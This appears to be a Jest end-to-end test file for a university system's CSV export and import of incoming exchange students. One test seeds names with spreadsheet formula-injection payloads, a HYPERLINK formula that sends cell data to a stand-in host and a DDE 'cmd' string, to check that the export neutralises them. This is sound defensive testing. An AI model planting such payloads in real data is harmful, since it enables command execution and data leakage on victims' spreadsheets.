import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import {
  agreementWith,
  dayFromToday,
  hostFaculty,
  nomination,
  partnerInstitution,
  shortTag,
  type FixtureFaculty,
  type FixtureInstitution,
} from '../support/incoming-fixtures.js';
import { bootApp, type TestApp, type TestUser } from '../support/test-app.js';

const HEADER = [
  'firstName',
  'lastName',
  'email',
  'homeInstitutionSchacCode',
  'hostFacultyCode',
  'agreementId',
  'academicYear',
  'term',
  'status',
  'plannedArrival',
  'plannedDeparture',
  'actualArrival',
  'actualDeparture',
  'notes',
];

type CsvRow = Record<string, string>;

describe('Incoming mobilities: CSV export and import (e2e)', () => {
  let t: TestApp;
  let coordinator: TestUser;
  let baseUrl: string;

  beforeAll(async () => {
    t = await bootApp();
    coordinator = await t.createUser('coordinator');
    const address = t.app.getHttpServer().address();
    baseUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  });
  afterAll(async () => {
    await t.close();
  });

  /** A partner and a faculty of their own, so a test's export holds its rows only. */
  async function scope(): Promise<{ partner: FixtureInstitution; faculty: FixtureFaculty }> {
    return { partner: await partnerInstitution(t), faculty: await hostFaculty(t) };
  }

  const exportCsv = (query: Record<string, string>) =>
    t.http.get('/api/incoming/export.csv', { token: coordinator.token, query });
  const importText = (csv: string | Buffer) =>
    t.http.post('/api/incoming/import', csv, {
      token: coordinator.token,
      headers: { 'content-type': 'text/csv; charset=utf-8' },
    });
  const importMultipart = async (csv: string, field = 'file') => {
    const form = new FormData();
    form.append(field, new Blob([csv], { type: 'text/csv' }), 'incoming.csv');
    const response = await fetch(`${baseUrl}/api/incoming/import`, {
      method: 'POST',
      headers: { authorization: `Bearer ${coordinator.token}` },
      body: form,
    });
    const text = await response.text();
    return { status: response.status, body: text ? JSON.parse(text) : undefined };
  };
  const countByEmail = async (pattern: string) =>
    (
      (await t.dataSource.query(
        `SELECT count(*)::int AS count FROM incoming_mobilities WHERE email LIKE $1`,
        [pattern],
      )) as Array<{ count: number }>
    )[0].count;
  const csvOf = (rows: CsvRow[]) => stringify(rows, { header: true, columns: HEADER });
  const row = (
    partner: FixtureInstitution,
    faculty: FixtureFaculty,
    fields: Partial<CsvRow> = {},
  ): CsvRow => ({
    firstName: 'Arman',
    lastName: 'Serikov',
    email: `row-${shortTag()}@kaznu.kz`,
    homeInstitutionSchacCode: partner.schacCode,
    hostFacultyCode: faculty.code,
    agreementId: '',
    academicYear: '2025/2026',
    term: 'spring',
    status: 'nominated',
    plannedArrival: '2026-02-01',
    plannedDeparture: '2026-06-30',
    actualArrival: '',
    actualDeparture: '',
    notes: '',
    ...fields,
  });

  it('exports names with commas, quotes, new lines and Cyrillic so that a CSV parser reads back the same values', async () => {
    const { partner, faculty } = await scope();
    const agreementId = await agreementWith(t, partner.id);
    const people = [
      { firstName: 'Әлия, "Әля"', lastName: 'Сәрсенова', notes: 'Line one\nline two, with "quotes"' },
      { firstName: 'Ержан', lastName: "O'Neil-Қасымов", notes: 'Windows\r\nline break' },
      { firstName: 'Dana', lastName: 'Smith, Jr.', notes: '' },
    ];
    const created: Array<{ id: string; email: string }> = [];
    for (const person of people) {
      const response = await t.http.post(
        '/api/incoming',
        nomination(partner.id, faculty.id, { ...person, agreementId }),
        { token: coordinator.token },
      );
      expect(response.status).toBe(201);
      created.push(response.body);
    }
    await t.http.post(
      `/api/incoming/${created[0].id}/transition`,
      { to: 'accepted' },
      { token: coordinator.token },
    );
    await t.http.post(
      `/api/incoming/${created[0].id}/transition`,
      { to: 'arrived', date: dayFromToday(-3) },
      { token: coordinator.token },
    );

    const response = await exportCsv({ homeInstitutionId: partner.id });
    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="incoming-mobilities-.*\.csv"$/,
    );
    expect(response.text.charCodeAt(0)).not.toBe(0xfeff);

    const [header, ...records] = parse(response.text) as string[][];
    expect(header).toEqual(HEADER);
    const byColumn = records.map((record) =>
      Object.fromEntries(header.map((name, index) => [name, record[index]])),
    );
    expect(byColumn).toEqual([
      {
        ...people[0],
        email: created[0].email,
        homeInstitutionSchacCode: partner.schacCode,
        hostFacultyCode: faculty.code,
        agreementId,
        academicYear: '2025/2026',
        term: 'spring',
        status: 'arrived',
        plannedArrival: '2026-02-01',
        plannedDeparture: '2026-06-30',
        actualArrival: dayFromToday(-3),
        actualDeparture: '',
      },
      expect.objectContaining({
        ...people[1],
        email: created[1].email,
        status: 'nominated',
        actualArrival: '',
      }),
      expect.objectContaining({ ...people[2], email: created[2].email }),
    ]);

    // The same file imports back once the emails are changed: one mobility per row.
    const changed = byColumn.map((record) => ({ ...record, email: record.email.replace('@', '+copy@') }));
    const imported = await importText(csvOf(changed));
    expect(imported.status).toBe(200);
    expect(imported.body).toEqual({ created: 3, duplicates: [] });
    const copies = (await t.dataSource.query(
      `SELECT first_name, last_name, notes, status, to_char(actual_arrival, 'YYYY-MM-DD') AS arrival, agreement_id
         FROM incoming_mobilities WHERE email LIKE '%+copy@%' AND home_institution_id = $1 ORDER BY first_name`,
      [partner.id],
    )) as Array<Record<string, string | null>>;
    expect(copies).toEqual(
      [
        {
          first_name: people[0].firstName,
          last_name: people[0].lastName,
          notes: people[0].notes,
          status: 'arrived',
          arrival: dayFromToday(-3),
          agreement_id: agreementId,
        },
        {
          first_name: people[1].firstName,
          last_name: people[1].lastName,
          notes: people[1].notes,
          status: 'nominated',
          arrival: null,
          agreement_id: agreementId,
        },
        {
          first_name: people[2].firstName,
          last_name: people[2].lastName,
          notes: '',
          status: 'nominated',
          arrival: null,
          agreement_id: agreementId,
        },
      ].sort((a, b) => (a.first_name < b.first_name ? -1 : 1)),
    );

    // Importing the unchanged export reports every row as a duplicate and creates nothing.
    const again = await importText(response.text);
    expect(again.status).toBe(200);
    expect(again.body.created).toBe(0);
    // Lines: the header is 1; each of the first two rows' notes spans two lines.
    const startLines = [2, 4, 6];
    expect(again.body.duplicates).toEqual(
      created.map((mobility, index) =>
        expect.objectContaining({ email: mobility.email, existingId: mobility.id, line: startLines[index] }),
      ),
    );
  });

  it('neutralises spreadsheet formulas in the export, and an import takes them back to the same text', async () => {
    const { partner, faculty } = await scope();
    const people = [
      { firstName: '=HYPERLINK("http://x/?"&A1,"y")', lastName: "+cmd|' /C calc'!A0", notes: '@SUM(1)' },
      { firstName: '@SUM(1)', lastName: '-2+3', notes: '\t=1+2' },
      { firstName: 'Aigerim', lastName: "'=already quoted", notes: '\r=cmd' },
      { firstName: 'Ержан', lastName: 'Smith', notes: 'plain, "safe" = fine' },
    ];
    const created: string[] = [];
    for (const person of people) {
      const response = await t.http.post('/api/incoming', nomination(partner.id, faculty.id, person), {
        token: coordinator.token,
      });
      expect(response.status).toBe(201);
      created.push(response.body.email);
    }

    const response = await exportCsv({ homeInstitutionId: partner.id });
    expect(response.status).toBe(200);
    const records = parse(response.text, { columns: true }) as CsvRow[];
    const cells = records.map(({ firstName, lastName, notes }) => ({ firstName, lastName, notes }));
    // Every cell that a spreadsheet would run starts with a single quote; the others are untouched.
    expect(cells).toEqual([
      {
        firstName: `'${people[0].firstName}`,
        lastName: `'${people[0].lastName}`,
        notes: `'${people[0].notes}`,
      },
      {
        firstName: `'${people[1].firstName}`,
        lastName: `'${people[1].lastName}`,
        notes: `'${people[1].notes}`,
      },
      { firstName: 'Aigerim', lastName: `'${people[2].lastName}`, notes: `'${people[2].notes}` },
      people[3],
    ]);
    for (const record of records) {
      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }

    // The export imports back (as new students) with every value as it was typed.
    const copies = records.map((record) => ({ ...record, email: record.email.replace('@', '+formula@') }));
    const imported = await importText(csvOf(copies));
    expect(imported.status).toBe(200);
    expect(imported.body).toEqual({ created: 4, duplicates: [] });
    const stored = (await t.dataSource.query(
      `SELECT first_name AS "firstName", last_name AS "lastName", notes FROM incoming_mobilities
        WHERE email = ANY($1::text[]) ORDER BY array_position($1::text[], email::text)`,
      [created.map((email) => email.replace('@', '+formula@'))],
    )) as Array<Record<string, string>>;
    expect(stored).toEqual(people);
  });

  it('applies the list filters to the export', async () => {
    const { partner, faculty } = await scope();
    for (const term of ['spring', 'autumn', 'autumn']) {
      await t.http.post('/api/incoming', nomination(partner.id, faculty.id, { term }), {
        token: coordinator.token,
      });
    }
    const autumn = parse(
      (await exportCsv({ homeInstitutionId: partner.id, term: 'autumn' })).text,
    ) as string[][];
    expect(autumn).toHaveLength(3);
    expect(autumn.slice(1).every((record) => record[HEADER.indexOf('term')] === 'autumn')).toBe(true);
    const none = await exportCsv({ homeInstitutionId: partner.id, status: 'departed' });
    expect(none.status).toBe(200);
    expect(parse(none.text)).toEqual([HEADER]);
    expect((await exportCsv({ presentOn: 'yesterday' })).status).toBe(400);
    expect((await exportCsv({ limit: '5' })).status).toBe(400);
  });

  it('streams a few thousand rows, each once, in order', async () => {
    const { partner, faculty } = await scope();
    const count = 3500;
    const tag = shortTag();
    await t.dataSource.query(
      `INSERT INTO incoming_mobilities (first_name, last_name, email, home_institution_id, host_faculty_id,
         academic_year, term, planned_arrival, planned_departure, notes, created_at)
       SELECT 'Студент ' || n, 'Name, "' || n || '"', 'bulk-' || $4 || '-' || n || '@kaznu.kz', $1, $2,
              '2025/2026', 'spring', '2026-02-01', '2026-06-30', 'line 1' || chr(10) || 'line 2',
              now() - make_interval(secs => ($3 - n) / 1000.0)
         FROM generate_series(1, $3) AS n`,
      [partner.id, faculty.id, count, tag],
    );
    const response = await exportCsv({ homeInstitutionId: partner.id });
    expect(response.status).toBe(200);
    // Every record ends with CRLF; the notes' bare LF is inside quotes.
    expect(response.text.split('\r\n')).toHaveLength(count + 2);
    const records = parse(response.text, { columns: true }) as CsvRow[];
    expect(records).toHaveLength(count);
    expect(records[0]).toMatchObject({
      firstName: 'Студент 1',
      lastName: 'Name, "1"',
      notes: 'line 1\nline 2',
    });
    expect(records.map((record) => record.firstName)).toEqual(
      Array.from({ length: count }, (_, index) => `Студент ${index + 1}`),
    );
  });

  it('imports a multipart upload (field "file") in the same format', async () => {
    const { partner, faculty } = await scope();
    const rows = [row(partner, faculty, { firstName: 'Гүлнар' }), row(partner, faculty, { term: 'autumn' })];
    const response = await importMultipart(csvOf(rows));
    expect(response.status).toBe(200);
    expect(response.body).toEqual({ created: 2, duplicates: [] });
    const [stored] = await t.dataSource.query(`SELECT first_name FROM incoming_mobilities WHERE email = $1`, [
      rows[0].email,
    ]);
    expect(stored.first_name).toBe('Гүлнар');
    const events = await t.dataSource.query(
      `SELECT e.from_status, e.to_status, e.actor_id FROM incoming_events e JOIN incoming_mobilities m ON m.id = e.mobility_id WHERE m.email = $1`,
      [rows[0].email],
    );
    expect(events).toEqual([{ from_status: null, to_status: 'nominated', actor_id: coordinator.id }]);

    const wrongField = await importMultipart(csvOf([row(partner, faculty)]), 'upload');
    expect(wrongField.status).toBe(400);
  });

  it('rejects a file with one bad date: 400 naming that line and field, nothing stored', async () => {
    const { partner, faculty } = await scope();
    const tag = shortTag();
    const rows = Array.from({ length: 5 }, (_, index) =>
      row(partner, faculty, { email: `bad-${tag}-${index}@kaznu.kz` }),
    );
    rows[3].plannedArrival = '2026-02-30';
    const response = await importText(csvOf(rows));
    expect(response.status).toBe(400);
    expect(response.body).toMatchObject({
      code: 'INCOMING_IMPORT_INVALID',
      problemCount: 1,
      fields: [
        {
          line: 5,
          field: 'plannedArrival',
          problems: ['plannedArrival must be a date that exists, written YYYY-MM-DD'],
        },
      ],
    });
    expect(response.body.message).toContain('line(s) 5');
    expect(await countByEmail(`bad-${tag}-%`)).toBe(0);
  });

  it('lists every bad line and field, counting lines of multi-line values', async () => {
    const { partner, faculty } = await scope();
    const tag = shortTag();
    const rows = [
      row(partner, faculty, { email: `many-${tag}-1@kaznu.kz`, notes: 'three\nline\nnotes' }),
      row(partner, faculty, { email: 'not-an-email', term: 'winter' }),
      row(partner, faculty, { email: `many-${tag}-3@kaznu.kz`, homeInstitutionSchacCode: 'nowhere.example' }),
      row(partner, faculty, { email: `many-${tag}-4@kaznu.kz`, hostFacultyCode: 'NO-SUCH-FACULTY' }),
      row(partner, faculty, { email: `many-${tag}-5@kaznu.kz`, status: 'arrived' }),
      row(partner, faculty, { email: `many-${tag}-6@kaznu.kz`, plannedDeparture: '2026-01-01' }),
    ];
    const response = await importText(csvOf(rows));
    expect(response.status).toBe(400);
    const problems = response.body.fields.map((problem: { line: number; field: string }) => [
      problem.line,
      problem.field,
    ]);
    // Line 1 is the header; the first row's notes take lines 2 to 4.
    expect(problems).toEqual([
      [5, 'email'],
      [5, 'term'],
      [6, 'homeInstitutionSchacCode'],
      [7, 'hostFacultyCode'],
      [8, 'actualArrival'],
      [9, 'plannedDeparture'],
    ]);
    expect(await countByEmail(`many-${tag}-%`)).toBe(0);
  });

  it('reports duplicates of existing mobilities and of earlier lines, and creates the rest', async () => {
    const { partner, faculty } = await scope();
    const existing = await t.http.post('/api/incoming', nomination(partner.id, faculty.id), {
      token: coordinator.token,
    });
    const fresh = row(partner, faculty);
    const rows = [
      row(partner, faculty, { email: existing.body.email.toUpperCase() }),
      fresh,
      { ...fresh, firstName: 'Someone else' },
      row(partner, faculty, { email: fresh.email, term: 'autumn' }),
    ];
    const response = await importText(csvOf(rows));
    expect(response.status).toBe(200);
    expect(response.body).toEqual({
      created: 2,
      duplicates: [
        {
          line: 2,
          email: existing.body.email,
          academicYear: '2025/2026',
          term: 'spring',
          existingId: existing.body.id,
          sameAsLine: null,
        },
        {
          line: 4,
          email: fresh.email,
          academicYear: '2025/2026',
          term: 'spring',
          existingId: null,
          sameAsLine: 3,
        },
      ],
    });
    expect(await countByEmail(fresh.email)).toBe(2);
  });

  it('rejects a bad header, an empty file, a file that is not UTF-8 and broken CSV', async () => {
    const { partner, faculty } = await scope();
    const valid = csvOf([row(partner, faculty)]);
    const unknownColumn = await importText(valid.replace('notes', 'remarks'));
    expect(unknownColumn.status).toBe(400);
    expect(unknownColumn.body.fields).toEqual([expect.objectContaining({ line: 1, field: 'remarks' })]);
    const missing = await importText('firstName,lastName\nA,B\n');
    expect(missing.status).toBe(400);
    expect(missing.body.fields.map((problem: { field: string }) => problem.field)).toEqual(
      expect.arrayContaining(['email', 'homeInstitutionSchacCode', 'academicYear']),
    );
    expect((await importText('')).status).toBe(400);
    const latin1 = await importText(
      Buffer.concat([Buffer.from(valid.split('\n')[0] + '\n'), Buffer.from([0xc9, 0x74, 0xe9, 0x0a])]),
    );
    expect(latin1.status).toBe(400);
    expect(latin1.body.fields[0].problems[0]).toContain('UTF-8');
    const unclosed = await importText(`${HEADER.join(',')}\n"Arman,Serikov\n`);
    expect(unclosed.status).toBe(400);
    expect(unclosed.body.code).toBe('INCOMING_IMPORT_INVALID');
    const short = await importText(`${HEADER.join(',')}\nArman,Serikov\n`);
    expect(short.status).toBe(400);
    expect(short.body.fields).toEqual([expect.objectContaining({ line: 2, field: null })]);
  });

  it('accepts a BOM and blank lines, as spreadsheets write them', async () => {
    const { partner, faculty } = await scope();
    const crlf = stringify([row(partner, faculty), row(partner, faculty)], {
      header: true,
      columns: HEADER,
      record_delimiter: 'windows',
      bom: true,
    });
    const [header, first, second] = crlf.split('\r\n');
    const csv = `${header}\r\n\r\n${first}\r\n${second}\r\n\r\n`;
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const response = await importText(csv);
    expect(response.status).toBe(200);
    expect(response.body.created).toBe(2);
  });

  it('refuses files over 5 MB with a 413, as text/csv or multipart', async () => {
    const big = 'x'.repeat(5 * 1024 * 1024 + 10);
    const text = await importText(big);
    expect(text.status).toBe(413);
    expect(text.body.statusCode).toBe(413);
    const multipart = await importMultipart(big);
    expect(multipart.status).toBe(413);
  });

  it('answers 415 to a JSON body, and to text/csv on another route', async () => {
    const json = await t.http.post('/api/incoming/import', { file: 'a,b' }, { token: coordinator.token });
    expect(json.status).toBe(415);
    const elsewhere = await t.http.post('/api/incoming', 'a,b\n1,2\n', {
      token: coordinator.token,
      headers: { 'content-type': 'text/csv' },
    });
    expect(elsewhere.status).toBe(415);
  });
});
